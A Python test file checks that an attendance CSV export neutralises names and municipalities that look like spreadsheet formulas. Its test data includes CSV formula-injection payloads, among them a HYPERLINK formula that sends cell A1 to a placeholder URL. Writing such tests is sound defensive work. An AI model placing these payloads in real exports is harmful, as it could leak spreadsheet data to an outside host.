"""Attendance: the CSV export opens in a spreadsheet as text, never as formulas."""

from __future__ import annotations

import csv
import io

from bot.services.attendance import Attendee, attendance_csv
from storage.models import RsvpAnswer

ANSWERS = {RsvpAnswer.GOING: "tulossa", RsvpAnswer.NOT_GOING: "ei tule", None: "ei vastannut"}


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_names_that_look_like_formulas_stay_text_in_a_spreadsheet() -> None:
    hostile = [
        '=HYPERLINK("https://example.invalid/?x="&A1,"Avaa")',
        "+358 40 123",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ]
    people = [Attendee("Lohja", name, RsvpAnswer.GOING) for name in hostile]
    people.append(Attendee("=Kerava", "Aino Virtanen", None))

    [header, *body] = rows(attendance_csv(people, ANSWERS))

    assert header == ["municipality", "name", "answer"]
    assert [row[1] for row in body[:-1]] == ["'" + name for name in hostile]
    # An ordinary name is written as it is; a municipality is neutralised like a name.
    assert body[-1] == ["'=Kerava", "Aino Virtanen", "ei vastannut"]
